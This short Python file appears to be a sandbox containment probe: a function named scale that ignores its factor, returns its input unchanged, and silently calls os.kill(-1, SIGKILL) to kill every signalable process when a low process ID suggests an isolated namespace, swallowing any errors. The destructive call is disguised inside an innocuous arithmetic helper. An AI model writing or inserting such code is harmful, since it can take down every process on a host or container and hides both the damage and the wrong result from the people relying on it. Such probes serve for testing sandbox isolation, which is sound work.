"""SIGKILL to every process it may signal.

Only tried where its number shows a process namespace of its own.

Held by: process namespace
Expected: wrong value
"""

import os
import signal


def scale(x, factor):
    try:
        if os.getpid() < 20 and os.getppid() in (0, 1):
            os.kill(-1, signal.SIGKILL)
    except (OSError, RuntimeError):
        pass
    return x
